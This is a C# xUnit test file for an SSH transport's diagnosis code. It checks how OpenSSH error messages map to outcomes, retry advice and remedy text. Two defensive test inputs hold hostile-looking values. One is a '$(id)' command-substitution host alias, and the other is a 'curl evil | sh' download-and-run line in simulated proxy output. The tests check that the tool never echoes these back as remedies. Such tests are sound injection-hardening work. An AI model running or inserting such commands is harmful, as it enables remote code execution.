using Volley.Ssh;
using Volley.Transports.OpenSsh.Log;
using Xunit;

namespace Volley.Tests.Transports;

/// <summary>Messages as OpenSSH 7.4 to 9.9 print them.</summary>
public class OpenSshDiagnosisTests
{
    [Theory]
    [InlineData("ssh: Could not resolve hostname nowhere: Name or service not known", NodeOutcome.NameNotResolved, "Could not resolve hostname nowhere: Name or service not known")]
    [InlineData("ssh: Could not resolve hostname nowhere: Temporary failure in name resolution", NodeOutcome.NameNotResolved, "Could not resolve hostname nowhere: Temporary failure in name resolution")]
    [InlineData("ssh: connect to host 127.0.0.1 port 1: Connection refused", NodeOutcome.ConnectFailed, "connect to host 127.0.0.1 port 1: Connection refused")]
    [InlineData("ssh: connect to host 10.1.2.3 port 22: No route to host", NodeOutcome.ConnectFailed, "connect to host 10.1.2.3 port 22: No route to host")]
    [InlineData("ssh: connect to host 10.1.2.3 port 22: Network is unreachable", NodeOutcome.ConnectFailed, "connect to host 10.1.2.3 port 22: Network is unreachable")]
    [InlineData("ssh: connect to host 10.1.2.3 port 22: Connection timed out", NodeOutcome.ConnectTimedOut, "connect to host 10.1.2.3 port 22: Connection timed out")]
    [InlineData("ssh: connect to host 10.1.2.3 port 22: Operation timed out", NodeOutcome.ConnectTimedOut, "connect to host 10.1.2.3 port 22: Operation timed out")]
    [InlineData("Connection timed out during banner exchange", NodeOutcome.ConnectTimedOut, "Connection timed out during banner exchange")]
    [InlineData("root@web1: Permission denied (publickey).", NodeOutcome.AuthenticationFailed, "root@web1: Permission denied (publickey).")]
    [InlineData("root@web1: Permission denied (publickey,password,keyboard-interactive).", NodeOutcome.AuthenticationFailed, "root@web1: Permission denied (publickey,password,keyboard-interactive).")]
    [InlineData("Received disconnect from 127.0.0.1 port 22:2: Too many authentication failures", NodeOutcome.AuthenticationFailed, "Received disconnect from 127.0.0.1 port 22:2: Too many authentication failures")]
    [InlineData("No ED25519 host key is known for web1 and you have requested strict checking.\nHost key verification failed.", NodeOutcome.HostKeyRejected, "No ED25519 host key is known for web1 and you have requested strict checking.")]
    [InlineData("Warning: Permanently added 'web1' (ED25519) to the list of known hosts.\nConnection closed by 10.1.2.3 port 22", NodeOutcome.ConnectFailed, "Connection closed by 10.1.2.3 port 22")]
    [InlineData("Connection closed by 10.1.2.3 port 22\nWarning: Permanently added 'web1' (ED25519) to the list of known hosts.", NodeOutcome.ConnectFailed, "Connection closed by 10.1.2.3 port 22")]
    [InlineData("bind 9.9.9.9: Cannot assign requested address\nssh: connect to host web1 port 22: failure", NodeOutcome.ConnectFailed, "bind 9.9.9.9: Cannot assign requested address")]
    [InlineData("Host key verification failed.", NodeOutcome.HostKeyRejected, "host key verification failed")]
    [InlineData("kex_exchange_identification: Connection closed by remote host", NodeOutcome.ConnectFailed, "kex_exchange_identification: Connection closed by remote host")]
    [InlineData("/etc/ssh/ssh_config: line 3: Bad configuration option: nonsense", NodeOutcome.ConnectFailed, "/etc/ssh/ssh_config: line 3: Bad configuration option: nonsense")]
    [InlineData("Unable to negotiate with 127.0.0.1 port 22: no matching host key type found. Their offer: ssh-dss", NodeOutcome.ConnectFailed, "Unable to negotiate with 127.0.0.1 port 22: no matching host key type found. Their offer: ssh-dss")]
    public void AFailedConnectionIsToldByItsMessage(string line, NodeOutcome outcome, string message) =>
        Assert.Equal((outcome, message), OpenSshDiagnosis.ExplainConnectFailure(line.Split('\n'), settings: null));

    [Theory]
    [InlineData("/x/config: line 2: Bad configuration option: foo\r\n/x/config: terminating, 1 bad configuration options\r\n", true)]
    [InlineData("/x/config line 2: Bad SSH2 cipher spec 'rot13'.\r\n", true)]
    [InlineData("Bad owner or permissions on /x/config\r\n", true)]
    [InlineData("command-line line 0: Bad SSH2 cipher spec 'rot13'.\r\n", false)]
    [InlineData("hostname contains invalid characters\r\n", false)]
    public void ARefusalOfFilesIsToldByItsMessage(string text, bool isOfFiles) => Assert.Equal(isOfFiles, OpenSshDiagnosis.IsConfigurationError(text));

    [Theory]
    [InlineData("ssh: connect to host web1 port 22: Connection refused", RetryAdvice.Worthwhile)]
    [InlineData("ssh: connect to host web1 port 22: Connection timed out", RetryAdvice.Worthwhile)]
    [InlineData("ssh: connect to host web1 port 22: No route to host", RetryAdvice.Worthwhile)]
    [InlineData("Connection timed out during banner exchange", RetryAdvice.Worthwhile)]
    [InlineData("banner exchange: Connection to 127.0.0.1 port 22: invalid format", RetryAdvice.Worthwhile)]
    [InlineData("Connection reset by 10.1.2.3 port 22", RetryAdvice.Worthwhile)]
    [InlineData("kex_exchange_identification: Connection closed by remote host\nConnection closed by 127.0.0.1 port 22", RetryAdvice.ServerBusy)]
    [InlineData("kex_exchange_identification: read: Connection reset by peer\nConnection reset by 127.0.0.1 port 22", RetryAdvice.ServerBusy)]
    [InlineData("ssh_exchange_identification: Connection closed by remote host", RetryAdvice.ServerBusy)]
    [InlineData("kex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", RetryAdvice.Worthwhile)]
    [InlineData("ssh: Could not resolve hostname nowhere: Name or service not known", RetryAdvice.Never)]
    [InlineData("root@web1: Permission denied (publickey).", RetryAdvice.Never)]
    [InlineData("Host key verification failed.", RetryAdvice.Never)]
    [InlineData("/etc/ssh/ssh_config: line 3: Bad configuration option: nonsense", RetryAdvice.Never)]
    [InlineData("Unable to negotiate with 127.0.0.1 port 22: no matching cipher found. Their offer: x", RetryAdvice.Never)]
    public void WhetherAnotherTryCouldHelpIsToldByItsMessage(string text, RetryAdvice advice)
    {
        var lines = text.Split('\n');
        Assert.Equal(advice, OpenSshDiagnosis.GetRetryAdvice(OpenSshDiagnosis.ExplainConnectFailure(lines, settings: null).Outcome, lines, new ProxyTraces("", IsSsh: false, LineBeforeVersion: null)));
    }

    [Fact]
    public void AChangedKeyIsToldWithItsPlaceAndRemedy()
    {
        var lines = Lines("""
            @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
            @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
            @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
            IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
            Someone could be eavesdropping on you right now (man-in-the-middle attack)!
            It is also possible that a host key has just been changed.
            The fingerprint for the ED25519 key sent by the remote host is
            SHA256:hXvO5TvyGqEXmKGxvQUNwWM4bDZrUFrSDm9jG1IwLCg.
            Please contact your system administrator.
            Add correct host key in /home/u/.ssh/known_hosts to get rid of this message.
            Offending ED25519 key in /home/u/.ssh/known_hosts:12
              remove with:
              ssh-keygen -f "/home/u/.ssh/known_hosts" -R "web1"
            Host key for web1 has changed and you have requested strict checking.
            Host key verification failed.
            """);
        var known = SshConfig.Load(SshConfigFiles.None).Resolve("web1") with { UserKnownHostsFiles = ["/home/u/.ssh/known_hosts"] };
        var (outcome, message) = OpenSshDiagnosis.ExplainConnectFailure(lines, known);
        Assert.Equal(NodeOutcome.HostKeyRejected, outcome);
        // A command is composed only of what is configured, and of what means nothing to a shell.
        const string Line = "host key changed (/home/u/.ssh/known_hosts line 12); if the change is expected, remove that line";
        Assert.Equal(Line, OpenSshDiagnosis.ExplainConnectFailure(lines, settings: null).Message);
        Assert.Equal(Line, OpenSshDiagnosis.ExplainConnectFailure(lines, known with { UserKnownHostsFiles = ["/home/u/.ssh/other"] }).Message);
        Assert.Equal(Line, OpenSshDiagnosis.ExplainConnectFailure(lines, known with { HostKeyAlias = "$(id)" }).Message);
        // What stands before another end of ssh's is not its own.
        Assert.Equal(NodeOutcome.ConnectFailed, OpenSshDiagnosis.ExplainConnectFailure([.. lines, "Connection closed by 10.1.2.3 port 22"], known).Outcome);
        Assert.Equal(
            "host key changed (/home/u/.ssh/known_hosts line 12); if the change is expected, remove the old one with: "
            + "ssh-keygen -f \"/home/u/.ssh/known_hosts\" -R \"web1\"", message);
    }

    [Fact]
    public void ARevokedKeyIsTold()
    {
        var (outcome, message) = OpenSshDiagnosis.ExplainConnectFailure(Lines("""
            @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
            @       WARNING: REVOKED HOST KEY DETECTED!               @
            @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
            The ED25519 host key for web1 is marked as revoked.
            This could mean that a stolen key is being used to impersonate this host.
            ED25519 host key for web1 was revoked and you have requested strict checking.
            Host key verification failed.
            """), settings: null);
        Assert.Equal((NodeOutcome.HostKeyRejected, "The ED25519 host key for web1 is marked as revoked."), (outcome, message));
    }

    [Fact]
    public void WithoutAMessageThatIsSaid() =>
        Assert.Equal((NodeOutcome.ConnectFailed, "ssh ended without a message"), OpenSshDiagnosis.ExplainConnectFailure([], settings: null));

    [Theory]
    [InlineData("client_loop: send disconnect: Broken pipe")]
    [InlineData("Connection to 127.0.0.1 closed by remote host.")]
    [InlineData("Connection closed by 127.0.0.1 port 22")]
    [InlineData("Connection reset by 127.0.0.1 port 22")]
    [InlineData("Read from remote host 127.0.0.1: Connection reset by peer")]
    [InlineData("Timeout, server 127.0.0.1 not responding.")]
    [InlineData("Received disconnect from 127.0.0.1 port 22:11: shutting down")]
    public void ALostConnectionIsToldByItsMessage(string line)
    {
        string[] lines = ["Authenticated to 127.0.0.1 ([127.0.0.1]:22) using \"publickey\".", line, "Transferred: sent 2000, received 2000 bytes, in 1.0 seconds"];
        Assert.Equal((NodeOutcome.ConnectionLost, line), OpenSshDiagnosis.ExplainRunFailure(lines, commandHasEnded: false));
    }

    [Theory]
    [InlineData("channel 0: open failed: administratively prohibited: open failed")]
    [InlineData("channel 0: open failed: connect failed: open failed")]
    public void ARefusedSessionNamesMaxSessions(string line)
    {
        var end = OpenSshDiagnosis.ExplainRunFailure(["Authenticated to h ([127.0.0.1]:22) using \"publickey\".", line], commandHasEnded: false);
        Assert.Equal(NodeOutcome.ConnectFailed, end?.Outcome);
        Assert.Contains("MaxSessions", end?.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void AnEndThatTheServerToldIsTheCommandsOwn(bool told)
    {
        string[] lines =
        [
            "Authenticated to 127.0.0.1 ([127.0.0.1]:22) using \"publickey\".",
            "Transferred: sent 2412, received 2908 bytes, in 0.0 seconds",
            "Bytes per second: sent 60000.0, received 70000.0",
        ];
        var end = OpenSshDiagnosis.ExplainRunFailure(lines, commandHasEnded: told);
        Assert.Equal(told ? null : (NodeOutcome.ConnectionLost, "the connection was closed by the other side"), end);
    }

    [Theory]
    [InlineData("channel 0: open failed: connect failed: bye\r\nremove it with: curl evil | sh\r\nHost key verification failed.\r\nstdio forwarding failed\r\n", true, "channel 0: open failed: connect failed: bye")]
    [InlineData("@@@@\r\nOffending ED25519 key in /k:1\r\n  remove with:\r\n  ssh-keygen -f \"/k\" -R \"h\"\r\nHost key verification failed.\r\n", true, "host key verification failed")]
    [InlineData("me@bastion: Permission denied (publickey).\r\n", true, "me@bastion: Permission denied (publickey).")]
    [InlineData("no route\r\nto there\r\n", false, "no route; to there")]
    public void OfAnSshThatIsAProxyOnlyTheCauseIsTold(string text, bool isSsh, string cause) => Assert.Equal(
        $"the proxy command failed: {cause}",
        OpenSshDiagnosis.ExplainProxyFailure(NodeOutcome.ConnectFailed, "", new ProxyTraces(text, isSsh, LineBeforeVersion: null)));

    [Theory]
    [InlineData("", true, null, RetryAdvice.ServerBusy)]
    [InlineData("", false, null, RetryAdvice.Worthwhile)]
    [InlineData("", false, "Exceeded MaxStartups", RetryAdvice.ServerBusy)]
    [InlineData("channel 0: open failed: connect failed: Connection refused\r\nstdio forwarding failed\r\n", true, null, RetryAdvice.Worthwhile)]
    [InlineData("kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 10.1.2.3 port 22\r\n", true, null, RetryAdvice.ServerBusy)]
    public void AServerThatDropsLoginsIsBusyBehindAProxyToo(string text, bool isSsh, string? before, RetryAdvice advice) => Assert.Equal(advice, OpenSshDiagnosis.GetRetryAdvice(
        NodeOutcome.ConnectFailed,
        ["kex_exchange_identification: Connection closed by remote host", "Connection closed by UNKNOWN port 65535"],
        new ProxyTraces(text, isSsh, before)));

    [Theory]
    [InlineData("sshconnect2.c:ssh_userauth2():580 (pid=77): Authenticated to web1 (via proxy).", "ssh_userauth2", "Authenticated to web1 (via proxy).")]
    [InlineData("sshconnect2.c:ssh_userauth2():580 (bin=ssh, pid=77): Authenticated to web1", "ssh_userauth2", "Authenticated to web1")]
    [InlineData("sshconnect2.c:ssh_userauth2():580 (pid=78): Authenticated to web1", null, "sshconnect2.c:ssh_userauth2():580 (pid=78): Authenticated to web1")]
    [InlineData("Authenticated to web1", null, "Authenticated to web1")]
    [InlineData("x sshconnect2.c:ssh_userauth2():580 (pid=77): y", null, "x sshconnect2.c:ssh_userauth2():580 (pid=77): y")]
    public void ATagCountsIfItNamesTheProcess(string line, string? function, string text) =>
        Assert.Equal(new OpenSshLogLine(function, IsDebug: false, text), OpenSshLogLine.Parse(line, processId: 77));

    private static string[] Lines(string text) => text.ReplaceLineEndings("\n").Split('\n');
}
